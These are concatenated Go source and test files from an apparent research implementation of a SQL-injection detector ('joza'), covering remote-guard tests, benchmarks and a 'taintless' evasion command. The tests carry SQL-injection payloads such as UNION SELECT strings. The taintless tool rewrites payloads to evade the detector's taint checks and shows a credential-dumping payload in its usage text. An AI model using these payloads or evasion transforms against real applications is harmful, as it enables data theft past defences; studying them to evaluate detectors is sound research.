	}()
	t.Cleanup(func() {
		_ = srv.Close()
		<-done
	})
	return ln.Addr().String()
}

func TestRemoteGuardOverPool(t *testing.T) {
	addr := startDaemon(t)
	pool := joza.DialDaemonPool(addr, joza.DaemonPoolConfig{Size: 2, Timeout: time.Second})
	g := joza.NewRemoteGuard(pool)
	defer g.Close()

	v, err := g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: "5"}})
	if err != nil {
		t.Fatal(err)
	}
	if v.Attack {
		t.Errorf("benign flagged: %v", v.Reasons())
	}
	payload := "-1 UNION SELECT username()"
	v, err = g.Check("SELECT * FROM records WHERE ID="+payload+" LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: payload}})
	if err != nil {
		t.Fatal(err)
	}
	if !v.Attack {
		t.Error("attack missed over pooled transport")
	}
	snap := g.Metrics()
	if snap.Checks != 2 || snap.Attacks != 1 {
		t.Errorf("metrics = %+v", snap)
	}
}

func TestRemoteGuardFailOpenOutage(t *testing.T) {
	// A pool pointed at a daemon that never comes up.
	pool := joza.DialDaemonPool("127.0.0.1:1", joza.DaemonPoolConfig{
		Size: 1, Timeout: 200 * time.Millisecond, MaxAttempts: 2,
		BackoffMin: time.Millisecond, BackoffMax: 2 * time.Millisecond,
	})
	var auditBuf strings.Builder
	g := joza.NewRemoteGuard(pool,
		joza.WithRemoteDegradeMode(joza.DegradeFailOpen),
		joza.WithRemoteAuditLog(&auditBuf))
	defer g.Close()

	payload := "-1 UNION SELECT username()"
	v, err := g.Check("SELECT * FROM records WHERE ID="+payload+" LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: payload}})
	if err != nil {
		t.Fatalf("fail-open must not surface the outage: %v", err)
	}
	if !v.NTI.Attack || v.PTI.Attack {
		t.Errorf("want NTI-only detection, got %v", v.DetectedBy())
	}
	if got := g.Metrics().DegradedChecks; got != 1 {
		t.Errorf("DegradedChecks = %d, want 1", got)
	}
	if !strings.Contains(auditBuf.String(), "NTI") {
		t.Errorf("audit log missing NTI block: %q", auditBuf.String())
	}
}

func TestRemoteGuardDialDaemonSingleConn(t *testing.T) {
	addr := startDaemon(t)
	c, err := joza.DialDaemon(addr)
	if err != nil {
		t.Fatal(err)
	}
	g := joza.NewRemoteGuard(c, joza.WithoutRemoteNTI(),
		joza.WithRemotePolicy(joza.PolicyErrorVirtualize))
	defer g.Close()
	err = g.Authorize("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5", nil)
	if err == nil {
		t.Fatal("attack authorized")
	}
	var ae *joza.AttackError
	if !errors.As(err, &ae) || ae.Policy != joza.PolicyErrorVirtualize {
		t.Errorf("err = %v", err)
	}
}
