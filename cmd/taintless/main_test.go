package main

import "testing"

func TestRunDemo(t *testing.T) {
	if err := run([]string{"-demo", "-payload", "1 OR 1=1"}); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-demo", "-payload", "-1 UNION SELECT a FROM b", "-nti-evade"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunErrors(t *testing.T) {
	if err := run([]string{"-demo"}); err == nil {
		t.Error("missing payload must error")
	}
	if err := run([]string{"-payload", "x"}); err == nil {
		t.Error("missing vocabulary must error")
	}
	if err := run([]string{"-src", "/no/such/dir", "-payload", "x"}); err == nil {
		t.Error("bad src must error")
	}
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}
