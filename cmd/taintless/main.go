// Command taintless is the automated PTI-evasion tool of Section V: given
// an application source tree (the fragment vocabulary) and an attack
// payload, it rewrites the payload using only fragments the application
// itself contains.
//
// Usage:
//
//	taintless -src /path/to/app -payload "1 OR 1=1"
//	taintless -demo -payload "-1 UNION SELECT username, password FROM users"
//	taintless -demo -payload "..." -nti-evade   # also print NTI evasions
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	"joza"
	"joza/internal/evasion"
	"joza/internal/fragments"
	"joza/internal/nti"
)

const demoSource = `<?php
$q = 'SELECT * FROM posts WHERE id=';
$and = ' and ';
$or = ' or ';
$un = ' union ';
$sel = ' select ';
$frm = ' from ';
$sep = ', ';
$eq = '=';
$dash = '-';
`

func main() {
	log.SetFlags(0)
	log.SetPrefix("taintless: ")
	if err := run(os.Args[1:]); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("taintless", flag.ContinueOnError)
	src := fs.String("src", "", "application source directory (fragment vocabulary)")
	payload := fs.String("payload", "", "attack payload to adapt")
	demo := fs.Bool("demo", false, "use a built-in demo vocabulary")
	ntiEvade := fs.Bool("nti-evade", false, "also print NTI-evading mutations")
	threshold := fs.Float64("threshold", nti.DefaultThreshold, "NTI threshold assumed for -nti-evade")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *payload == "" {
		return fmt.Errorf("-payload is required")
	}

	var texts []string
	switch {
	case *demo:
		texts = joza.FragmentsFromSource(demoSource)
	case *src != "":
		var err error
		texts, err = joza.FragmentsFromDir(*src)
		if err != nil {
			return err
		}
	default:
		return fmt.Errorf("either -src or -demo is required")
	}

	set := fragments.NewSet(texts)
	tl := evasion.NewTaintless(set)
	rewritten, ok := tl.Evade(*payload)
	fmt.Printf("vocabulary: %d fragments\n", set.Len())
	fmt.Printf("original:   %q\n", *payload)
	fmt.Printf("rewritten:  %q\n", rewritten)
	if ok {
		fmt.Println("result:     every critical token covered — PTI evaded")
	} else {
		fmt.Println("result:     some critical tokens uncoverable — PTI still detects")
	}
	if *ntiEvade {
		fmt.Printf("quote-stuffed (magic-quotes apps): %q\n",
			evasion.QuoteStuffing(*payload, *threshold))
		fmt.Printf("whitespace-padded (trimming apps): %q\n",
			evasion.WhitespacePadding(*payload, *threshold))
	}
	return nil
}
