// The NTI matcher benchmark: before/after numbers for the bit-parallel
// engine and q-gram prefilter across request shapes (1, 10 and 50 input
// fields per check), plus the -diff mode CI uses to track the trajectory
// of these numbers across commits.
package main

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"time"

	"joza/internal/nti"
)

// ntiShapeResult is the measured outcome for one request shape.
type ntiShapeResult struct {
	Inputs int `json:"inputs"`
	Checks int `json:"checks"`
	// SellersNsPerCheck is the cell-at-a-time banded engine without the
	// prefilter (the configuration predating both optimizations).
	SellersNsPerCheck float64 `json:"sellersNsPerCheck"`
	// BitParallelNsPerCheck is the default engine: q-gram prefilter plus
	// bit-parallel scan.
	BitParallelNsPerCheck float64 `json:"bitParallelNsPerCheck"`
	Speedup               float64 `json:"speedup"`
	// PrefilterRejectPct is the share of input×query pairs the prefilter
	// rejected in the default-engine run.
	PrefilterRejectPct float64 `json:"prefilterRejectPct"`
}

// ntiBenchResult is the -json section for the matcher benchmark.
type ntiBenchResult struct {
	Shapes []ntiShapeResult `json:"shapes"`
}

// ntiBenchQuery is a representative content query; one input per check
// occurs verbatim (the slug), the rest are benign fields that must be
// rejected as cheaply as possible.
const ntiBenchQuery = "SELECT p.id, p.title, p.body, u.display_name FROM posts p " +
	"JOIN users u ON u.id = p.author_id WHERE p.status = 'publish' " +
	"AND p.slug = 'spring-garden-checklist' ORDER BY p.created_at DESC LIMIT 10"

// benignValues are drawn per input field: realistic form values that do
// not occur in the query.
var benignValues = []string{
	"spring garden checklist ideas",
	"jane.doe@example.org",
	"4fa83b1c-9d02-4e31-8f5a-2c7d90e11b42",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
	"1717171717",
	"How do I reset my password?",
	"+1 (555) 013-7799",
	"742 Evergreen Terrace, Springfield",
	"session=9f8e7d6c5b4a;theme=dark;lang=en-US",
	"the quick brown fox jumps over the lazy dog",
}

// ntiBenchInputs builds the input list for one check of the given shape.
func ntiBenchInputs(rng *rand.Rand, shape int) []nti.Input {
	inputs := make([]nti.Input, shape)
	if shape == 1 {
		// A single benign field, so the 1-input shape times the matcher
		// rather than the exact fast path the slug would take.
		return []nti.Input{{Source: "get", Name: "q",
			Value: fmt.Sprintf("%s %05d", benignValues[rng.Intn(len(benignValues))], rng.Intn(100000))}}
	}
	// One field legitimately reaches the query (the slug): the exact fast
	// path handles it under every engine.
	inputs[0] = nti.Input{Source: "get", Name: "slug", Value: "spring-garden-checklist"}
	for i := 1; i < shape; i++ {
		v := benignValues[rng.Intn(len(benignValues))]
		// Vary most values so checks do not dedup into a handful of
		// groups — a real form posts distinct field contents.
		if i%3 != 0 {
			v = fmt.Sprintf("%s %05d", v, rng.Intn(100000))
		}
		inputs[i] = nti.Input{
			Source: "post",
			Name:   fmt.Sprintf("f%d", i),
			Value:  v,
		}
	}
	return inputs
}

// driveNTI runs every check through one analyzer three times and returns
// the best ns-per-check, so scheduler noise does not masquerade as a
// matcher regression in -diff.
func driveNTI(a *nti.Analyzer, sets [][]nti.Input) (float64, error) {
	ctx := context.Background()
	best := 0.0
	for round := 0; round < 3; round++ {
		start := time.Now()
		for _, inputs := range sets {
			res, err := a.AnalyzeCtx(ctx, ntiBenchQuery, nil, inputs, nil)
			if err != nil {
				return 0, err
			}
			if res.Attack {
				return 0, fmt.Errorf("benign bench inputs flagged: %+v", res.Reasons)
			}
		}
		perCheck := float64(time.Since(start)) / float64(len(sets))
		if round == 0 || perCheck < best {
			best = perCheck
		}
	}
	return best, nil
}

// runNTIBench measures the matcher before/after across request shapes.
func runNTIBench(checks int, seed int64) (*ntiBenchResult, error) {
	if checks < 1 {
		checks = 1
	}
	res := &ntiBenchResult{}
	fmt.Printf("nti matcher, %d checks per shape (ns/check):\n", checks)
	for _, shape := range []int{1, 10, 50} {
		rng := rand.New(rand.NewSource(seed + int64(shape)))
		sets := make([][]nti.Input, checks)
		for i := range sets {
			sets[i] = ntiBenchInputs(rng, shape)
		}
		sellers := nti.MustNew(nti.WithSellersMatcher(), nti.WithoutPrefilter())
		before, err := driveNTI(sellers, sets)
		if err != nil {
			return nil, err
		}
		bitpar := nti.MustNew()
		after, err := driveNTI(bitpar, sets)
		if err != nil {
			return nil, err
		}
		st := bitpar.Stats()
		rejectPct := 0.0
		if st.PrefilterChecks > 0 {
			rejectPct = 100 * float64(st.PrefilterRejects) / float64(st.PrefilterChecks)
		}
		sr := ntiShapeResult{
			Inputs:                shape,
			Checks:                checks,
			SellersNsPerCheck:     before,
			BitParallelNsPerCheck: after,
			Speedup:               before / after,
			PrefilterRejectPct:    rejectPct,
		}
		res.Shapes = append(res.Shapes, sr)
		fmt.Printf("  %2d inputs: sellers %9.0f  bitparallel+prefilter %9.0f  %5.1fx  (prefilter rejected %.0f%%)\n",
			shape, before, after, sr.Speedup, rejectPct)
	}
	fmt.Println()
	return res, nil
}

// runDiff compares the matcher-relevant fields of two -json reports and
// prints GitHub warning annotations on >20% regressions. It never fails
// the run: trajectory is visible, merges are not blocked.
func runDiff(oldPath, newPath string) error {
	const tolerance = 1.20
	load := func(path string) (*benchReport, error) {
		data, err := os.ReadFile(path)
		if err != nil {
			return nil, err
		}
		var r benchReport
		if err := json.Unmarshal(data, &r); err != nil {
			return nil, fmt.Errorf("%s: %w", path, err)
		}
		return &r, nil
	}
	oldR, err := load(oldPath)
	if err != nil {
		return err
	}
	newR, err := load(newPath)
	if err != nil {
		return err
	}
	regressions, compared := 0, 0
	if oldR.NTIBench != nil && newR.NTIBench != nil {
		oldByShape := map[int]ntiShapeResult{}
		for _, s := range oldR.NTIBench.Shapes {
			oldByShape[s.Inputs] = s
		}
		for _, cur := range newR.NTIBench.Shapes {
			prev, ok := oldByShape[cur.Inputs]
			if !ok || prev.BitParallelNsPerCheck <= 0 {
				continue
			}
			compared++
			ratio := cur.BitParallelNsPerCheck / prev.BitParallelNsPerCheck
			fmt.Printf("diff: %2d inputs: %9.0f -> %9.0f ns/check (%+.1f%%)\n",
				cur.Inputs, prev.BitParallelNsPerCheck, cur.BitParallelNsPerCheck, (ratio-1)*100)
			if ratio > tolerance {
				regressions++
				fmt.Printf("::warning title=jozabench matcher regression::%d-input shape: %.0f ns/check vs %.0f previously (%+.1f%%, tolerance +20%%)\n",
					cur.Inputs, cur.BitParallelNsPerCheck, prev.BitParallelNsPerCheck, (ratio-1)*100)
			}
		}
	}
	if oldR.Scale != nil && newR.Scale != nil {
		oldBatch := map[int]batchSweepRow{}
		for _, b := range oldR.Scale.Batch {
			oldBatch[b.BatchSize] = b
		}
		for _, cur := range newR.Scale.Batch {
			prev, ok := oldBatch[cur.BatchSize]
			if !ok || prev.QPS <= 0 {
				continue
			}
			compared++
			// QPS regressing means the ratio drops below 1/tolerance.
			ratio := cur.QPS / prev.QPS
			fmt.Printf("diff: batch=%2d: %8.0f -> %8.0f q/s (%+.1f%%)\n",
				cur.BatchSize, prev.QPS, cur.QPS, (ratio-1)*100)
			if ratio < 1/tolerance {
				regressions++
				fmt.Printf("::warning title=jozabench batch throughput regression::batch=%d: %.0f q/s vs %.0f previously (%+.1f%%, tolerance -20%%)\n",
					cur.BatchSize, cur.QPS, prev.QPS, (ratio-1)*100)
			}
		}
		oldShards := map[int]shardSweepRow{}
		for _, s := range oldR.Scale.ShardSweep {
			oldShards[s.Shards] = s
		}
		for _, cur := range newR.Scale.ShardSweep {
			prev, ok := oldShards[cur.Shards]
			if !ok || prev.QPS <= 0 {
				continue
			}
			compared++
			ratio := cur.QPS / prev.QPS
			fmt.Printf("diff: %d shard(s): %8.0f -> %8.0f q/s (%+.1f%%)\n",
				cur.Shards, prev.QPS, cur.QPS, (ratio-1)*100)
			if ratio < 1/tolerance {
				regressions++
				fmt.Printf("::warning title=jozabench shard throughput regression::%d shard(s): %.0f q/s vs %.0f previously (%+.1f%%, tolerance -20%%)\n",
					cur.Shards, cur.QPS, prev.QPS, (ratio-1)*100)
			}
		}
	}
	switch {
	case compared == 0:
		fmt.Printf("diff: no comparable sections in %s and %s\n", oldPath, newPath)
	case regressions == 0:
		fmt.Println("diff: benchmark numbers within tolerance")
	}
	return nil
}
