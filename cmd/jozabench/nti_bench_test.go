package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

func TestRunNTIBenchShapes(t *testing.T) {
	res, err := runNTIBench(5, 42)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Shapes) != 3 {
		t.Fatalf("shapes = %d, want 3", len(res.Shapes))
	}
	for i, want := range []int{1, 10, 50} {
		s := res.Shapes[i]
		if s.Inputs != want {
			t.Errorf("shape %d inputs = %d, want %d", i, s.Inputs, want)
		}
		if s.SellersNsPerCheck <= 0 || s.BitParallelNsPerCheck <= 0 || s.Speedup <= 0 {
			t.Errorf("shape %d has non-positive timings: %+v", i, s)
		}
	}
	// The multi-input shapes carry benign junk the prefilter must reject.
	if res.Shapes[2].PrefilterRejectPct == 0 {
		t.Error("50-input shape reported zero prefilter rejects")
	}
}

func writeReport(t *testing.T, dir, name string, r benchReport) string {
	t.Helper()
	data, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunDiff(t *testing.T) {
	dir := t.TempDir()
	oldPath := writeReport(t, dir, "old.json", benchReport{NTIBench: &ntiBenchResult{
		Shapes: []ntiShapeResult{{Inputs: 10, BitParallelNsPerCheck: 1000}},
	}})
	// Within tolerance, a regression, and a report missing the section
	// must all return nil: the mode is warn-only by contract.
	for _, r := range []benchReport{
		{NTIBench: &ntiBenchResult{Shapes: []ntiShapeResult{{Inputs: 10, BitParallelNsPerCheck: 1100}}}},
		{NTIBench: &ntiBenchResult{Shapes: []ntiShapeResult{{Inputs: 10, BitParallelNsPerCheck: 5000}}}},
		{},
	} {
		newPath := writeReport(t, dir, "new.json", r)
		if err := runDiff(oldPath, newPath); err != nil {
			t.Errorf("runDiff(%+v) = %v, want nil", r.NTIBench, err)
		}
	}
	if err := runDiff(oldPath, filepath.Join(dir, "missing.json")); err == nil {
		t.Error("runDiff with a missing file must error")
	}
	bad := filepath.Join(dir, "bad.json")
	if err := os.WriteFile(bad, []byte("not json"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := runDiff(oldPath, bad); err == nil {
		t.Error("runDiff with malformed JSON must error")
	}
}
