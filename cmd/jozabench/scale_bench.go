package main

// The -scale benchmark measures the two scale-out levers of the daemon
// tier: batch amortization (N checks per wire frame) and consistent-hash
// sharding across a jozad fleet.
//
// The batch sweep is measured raw: one client, one connection, real
// loopback round trips. Per-check latency falls as the fixed frame cost
// (encode, syscall pair, decode, scheduler handoff) spreads over the
// batch.
//
// The shard sweep injects a fixed simulated network RTT into every
// frame (default 3ms, -rtt to change, 0 to disable). Co-located
// in-process shards share one machine's CPU, so wall-clock throughput on
// loopback alone says nothing about fleet scaling; with a realistic RTT
// and a fixed per-shard connection budget, throughput is bounded by
// in-flight capacity — shards × connections — which is exactly the
// resource an operator adds by deploying another jozad. The sweep holds
// the per-shard config constant and grows the fleet, so the speedup
// column reads as "what another identical jozad buys you".

import (
	"context"
	"fmt"
	"net"
	"sync"
	"time"

	"joza/internal/daemon"
	"joza/internal/pti"
	"joza/internal/workload"
)

// scaleResult is the -scale section of the -json report.
type scaleResult struct {
	Queries    int             `json:"queries"`
	RTTMicros  float64         `json:"rttMicros"`
	ShardConns int             `json:"shardConns"`
	Workers    int             `json:"workers"`
	Batch      []batchSweepRow `json:"batch"`
	ShardSweep []shardSweepRow `json:"shardSweep"`
}

type batchSweepRow struct {
	BatchSize  int     `json:"batchSize"`
	QPS        float64 `json:"qps"`
	PerCheckNs float64 `json:"perCheckNs"`
}

type shardSweepRow struct {
	Shards  int     `json:"shards"`
	QPS     float64 `json:"qps"`
	Speedup float64 `json:"speedup"`
}

// delayConn simulates network distance: each Write stalls for the
// configured round-trip time before delivering, so one frame exchange
// costs one RTT no matter how many checks it carries. Blocked time is
// not CPU, which is the point — it lets a shared-core bench expose the
// in-flight-capacity scaling a real fleet has.
type delayConn struct {
	net.Conn
	rtt time.Duration
}

func (c *delayConn) Write(p []byte) (int, error) {
	if c.rtt > 0 {
		time.Sleep(c.rtt)
	}
	return c.Conn.Write(p)
}

// startScaleServer boots one in-process daemon shard for the sweep and
// returns its address and a stop function.
func startScaleServer(site *workload.Site) (string, func(), error) {
	analyzer := pti.NewCached(pti.New(site.Fragments), pti.CacheQueryAndStructure, 8192)
	srv := daemon.NewServer(analyzer)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, err
	}
	go func() { _ = srv.Serve(ln) }()
	return ln.Addr().String(), func() { _ = srv.Close() }, nil
}

// scaleQueries flattens the Table VI mix into a flat query stream of at
// least minLen queries.
func scaleQueries(site *workload.Site, requests, minLen int) []string {
	var queries []string
	for _, req := range site.GenerateMix(workload.Mix{WriteFraction: 0.04}, requests) {
		for _, ev := range req.Events {
			queries = append(queries, ev.Query)
		}
	}
	for len(queries) < minLen {
		queries = append(queries, queries...)
	}
	return queries[:minLen]
}

// runScaleBench runs both sweeps and prints their tables.
func runScaleBench(site *workload.Site, requests, workers int, rtt time.Duration) (*scaleResult, error) {
	if workers < 1 {
		workers = 16
	}
	if workers < 64 {
		// The sweep's largest fleet has 8 connection slots; keep enough
		// workers queued on every shard that routing skew never leaves a
		// slot idle.
		workers = 64
	}
	const shardConns = 2
	// Enough queries that each timed pass runs long enough to measure, but
	// proportionate to -requests so smoke runs stay fast.
	minLen := requests * 20
	if minLen < 1000 {
		minLen = 1000
	}
	if minLen > 8000 {
		minLen = 8000
	}
	queries := scaleQueries(site, requests, minLen)
	res := &scaleResult{
		Queries:    len(queries),
		RTTMicros:  float64(rtt) / float64(time.Microsecond),
		ShardConns: shardConns,
		Workers:    workers,
	}

	// Batch sweep: one connection, sequential, raw loopback. Three passes
	// per size, keeping the fastest, so a stray scheduling hiccup does
	// not jag the curve.
	addr, stop, err := startScaleServer(site)
	if err != nil {
		return nil, err
	}
	c, err := daemon.Dial(addr)
	if err != nil {
		stop()
		return nil, err
	}
	ctx := context.Background()
	for _, q := range queries[:500] { // warm the daemon cache and the conn
		if _, err := c.Analyze(q); err != nil {
			c.Close()
			stop()
			return nil, err
		}
	}
	fmt.Printf("batch amortization, 1 connection, %d queries per size:\n", len(queries))
	for _, size := range []int{1, 2, 4, 8, 16} {
		best := time.Duration(1<<63 - 1)
		for pass := 0; pass < 5; pass++ {
			start := time.Now()
			for i := 0; i < len(queries); i += size {
				end := i + size
				if end > len(queries) {
					end = len(queries)
				}
				if _, err := c.AnalyzeBatch(ctx, queries[i:end]); err != nil {
					c.Close()
					stop()
					return nil, err
				}
			}
			if elapsed := time.Since(start); elapsed < best {
				best = elapsed
			}
		}
		perCheck := float64(best.Nanoseconds()) / float64(len(queries))
		qps := float64(len(queries)) / best.Seconds()
		res.Batch = append(res.Batch, batchSweepRow{BatchSize: size, QPS: qps, PerCheckNs: perCheck})
		fmt.Printf("  batch=%2d: %6.1f µs/check  %8.0f q/s\n", size, perCheck/1e3, qps)
	}
	c.Close()
	stop()

	// Shard sweep: same workload, per-shard config held constant
	// (shardConns connections), fleet size 1 → 2 → 4, simulated RTT on
	// every frame.
	fmt.Printf("\nshard scale-out, %d workers, %d conns/shard, %v simulated RTT:\n",
		workers, shardConns, rtt)
	var baseQPS float64
	for _, shards := range []int{1, 2, 4} {
		qps, err := runShardSweep(site, queries, shards, shardConns, workers, rtt)
		if err != nil {
			return nil, err
		}
		if shards == 1 {
			baseQPS = qps
		}
		speedup := qps / baseQPS
		res.ShardSweep = append(res.ShardSweep, shardSweepRow{Shards: shards, QPS: qps, Speedup: speedup})
		fmt.Printf("  %d shard(s): %8.0f q/s  %.2fx\n", shards, qps, speedup)
	}
	return res, nil
}

// runShardSweep measures one fleet size: n shards, a fixed connection
// budget each, checks routed by the sharded pool's consistent-hash ring.
func runShardSweep(site *workload.Site, queries []string, shards, conns, workers int, rtt time.Duration) (float64, error) {
	addrs := make([]string, shards)
	stops := make([]func(), shards)
	for i := range addrs {
		addr, stop, err := startScaleServer(site)
		if err != nil {
			for _, s := range stops[:i] {
				s()
			}
			return 0, err
		}
		addrs[i], stops[i] = addr, stop
	}
	defer func() {
		for _, stop := range stops {
			stop()
		}
	}()

	cfg := daemon.PoolConfig{Size: conns, Timeout: 30 * time.Second}
	pools := make([]*daemon.Pool, shards)
	for i, addr := range addrs {
		a := addr
		pools[i] = daemon.NewPool(func() (net.Conn, error) {
			conn, err := net.DialTimeout("tcp", a, 5*time.Second)
			if err != nil {
				return nil, err
			}
			return &delayConn{Conn: conn, rtt: rtt}, nil
		}, cfg)
	}
	// A dense ring (1024 vnodes/shard) keeps the keyspace split within a
	// few percent of fair; with the default 128 the hottest shard can own
	// ~60% of a 2-shard keyspace and its connection budget caps the whole
	// fleet's throughput.
	sp, err := daemon.NewShardedPool(pools, daemon.WithShardNames(addrs), daemon.WithRingReplicas(1024))
	if err != nil {
		return 0, err
	}
	defer sp.Close()

	drive := func(n int) (time.Duration, error) {
		errs := make(chan error, workers)
		var wg sync.WaitGroup
		start := time.Now()
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func(w int) {
				defer wg.Done()
				for i := w; i < n; i += workers {
					if _, err := sp.Analyze(queries[i%len(queries)]); err != nil {
						errs <- err
						return
					}
				}
			}(w)
		}
		wg.Wait()
		elapsed := time.Since(start)
		close(errs)
		return elapsed, <-errs
	}
	if _, err := drive(workers * 8); err != nil { // warm conns and caches
		return 0, err
	}
	// Two timed drives, keeping the faster: sleep-timer wakeup jitter on a
	// loaded host swings single runs by >10%.
	n := len(queries)
	best := time.Duration(1<<63 - 1)
	for pass := 0; pass < 2; pass++ {
		elapsed, err := drive(n)
		if err != nil {
			return 0, err
		}
		if elapsed < best {
			best = elapsed
		}
	}
	return float64(n) / best.Seconds(), nil
}
