package main

import (
	"fmt"
	"testing"
	"time"

	"joza/internal/fragments"
	"joza/internal/pti"
	"joza/internal/sqltoken"
)

// lexBenchResult is the outcome of the -lex micro-benchmark: the raw lexer
// cost per dialect, and the cached analyze fast path that must not lex (or
// allocate) at all. The cache-hit row is an assertion, not just a
// measurement — dialect dispatch lives on the lexer's hot path, and the
// whole point of the dialect-parameterized core is that the default
// deployment pays nothing for it.
type lexBenchResult struct {
	Rows []lexBenchRow `json:"rows"`
	// CacheHit is the warm query-cache Analyze path: the verdict comes from
	// the cache, no lex runs, and AllocsPerOp must be zero.
	CacheHit lexBenchRow `json:"cacheHit"`
}

// lexBenchRow is one measured configuration.
type lexBenchRow struct {
	Dialect     string  `json:"dialect"`
	NsPerOp     float64 `json:"nsPerOp"`
	AllocsPerOp float64 `json:"allocsPerOp"`
	Tokens      int     `json:"tokens,omitempty"`
}

// lexBenchQuery exercises strings, placeholders, comments, operators and
// keywords — every character class whose handling the dialect governs.
const lexBenchQuery = "SELECT id, name FROM records WHERE name='joza' AND id=? ORDER BY id -- trailing\n LIMIT 5"

// runLexBench measures the per-dialect lexer and asserts the cached
// analyze fast path stays allocation-free under dialect dispatch. A
// non-zero cache-hit allocation count is an error: it means the dialect
// refactor put an allocation (e.g. a composite-key build) on the hot path.
func runLexBench(requests int) (*lexBenchResult, error) {
	iters := requests * 100
	if iters < 10000 {
		iters = 10000
	}
	res := &lexBenchResult{}
	fmt.Println("lexer micro-benchmark (dialect-dispatched core):")
	for _, d := range sqltoken.Dialects() {
		toks := d.Lex(lexBenchQuery)
		start := time.Now()
		for i := 0; i < iters; i++ {
			toks = d.Lex(lexBenchQuery)
		}
		ns := float64(time.Since(start).Nanoseconds()) / float64(iters)
		allocs := testing.AllocsPerRun(1000, func() { _ = d.Lex(lexBenchQuery) })
		res.Rows = append(res.Rows, lexBenchRow{
			Dialect: d.String(), NsPerOp: ns, AllocsPerOp: allocs, Tokens: len(toks),
		})
		fmt.Printf("  %-8s lex: %7.0f ns/op  %4.1f allocs/op  (%d tokens)\n", d, ns, allocs, len(toks))
	}

	// The cached fast path: a warm query cache answers without lexing, and
	// the composite (dialect, query) key must not cost an allocation. Only
	// safe verdicts are cached, so the probe query must be fully covered.
	const hitQuery = "SELECT * FROM records WHERE ID=1 LIMIT 5"
	set := fragments.NewSet([]string{"SELECT * FROM records WHERE ID=", " LIMIT 5"})
	cached := pti.NewCached(pti.New(set), pti.CacheQueryAndStructure, 1024)
	cached.AnalyzeLazy(hitQuery, nil) // warm
	allocs := testing.AllocsPerRun(1000, func() { cached.AnalyzeLazy(hitQuery, nil) })
	start := time.Now()
	for i := 0; i < iters; i++ {
		cached.AnalyzeLazy(hitQuery, nil)
	}
	ns := float64(time.Since(start).Nanoseconds()) / float64(iters)
	res.CacheHit = lexBenchRow{Dialect: cached.Dialect().String(), NsPerOp: ns, AllocsPerOp: allocs}
	fmt.Printf("  cache-hit analyze (no lex): %7.0f ns/op  %4.1f allocs/op\n\n", ns, allocs)
	if allocs != 0 {
		return nil, fmt.Errorf("cached analyze fast path allocates (%.1f allocs/op); dialect dispatch must stay zero-alloc on cache hits", allocs)
	}
	return res, nil
}
