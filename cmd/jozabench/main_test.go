package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

func TestRunSmall(t *testing.T) {
	if err := run([]string{"-table", "6", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-figure", "8", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-transport", "-pool", "2", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
}

// TestRunScaleSmall smoke-runs the batch and shard sweeps at smoke size
// with the simulated RTT off, and checks the JSON section's shape: five
// batch rows, three fleet sizes, positive throughput everywhere.
func TestRunScaleSmall(t *testing.T) {
	path := filepath.Join(t.TempDir(), "scale.json")
	err := run([]string{"-scale", "-rtt", "0", "-requests", "10", "-urls", "20", "-json", path})
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var report benchReport
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatalf("report not JSON: %v", err)
	}
	if report.Scale == nil {
		t.Fatal("scale section missing")
	}
	if len(report.Scale.Batch) != 5 {
		t.Fatalf("batch sweep has %d rows, want 5", len(report.Scale.Batch))
	}
	for _, b := range report.Scale.Batch {
		if b.QPS <= 0 || b.PerCheckNs <= 0 {
			t.Fatalf("batch row %+v not measured", b)
		}
	}
	if len(report.Scale.ShardSweep) != 3 {
		t.Fatalf("shard sweep has %d rows, want 3", len(report.Scale.ShardSweep))
	}
	for i, s := range report.Scale.ShardSweep {
		if s.Shards != []int{1, 2, 4}[i] || s.QPS <= 0 || s.Speedup <= 0 {
			t.Fatalf("shard row %+v not measured", s)
		}
	}
}

func TestRunBadFlags(t *testing.T) {
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}

// TestJSONReport runs two sections with -json and checks the report file
// carries exactly the sections that ran, with the run parameters.
func TestJSONReport(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bench.json")
	err := run([]string{"-table", "6", "-transport", "-pool", "2",
		"-requests", "10", "-urls", "20", "-seed", "7", "-json", path})
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var report benchReport
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatalf("report not JSON: %v", err)
	}
	if report.GoVersion == "" || report.GeneratedAt == "" {
		t.Fatalf("missing run metadata: %+v", report)
	}
	if report.URLs != 20 || report.Requests != 10 || report.Seed != 7 {
		t.Fatalf("run parameters not recorded: %+v", report)
	}
	if len(report.Table6) == 0 {
		t.Fatal("table6 section missing")
	}
	if report.Transport == nil || report.Transport.Workers != 2 || report.Transport.PoolQPS <= 0 {
		t.Fatalf("transport section = %+v", report.Transport)
	}
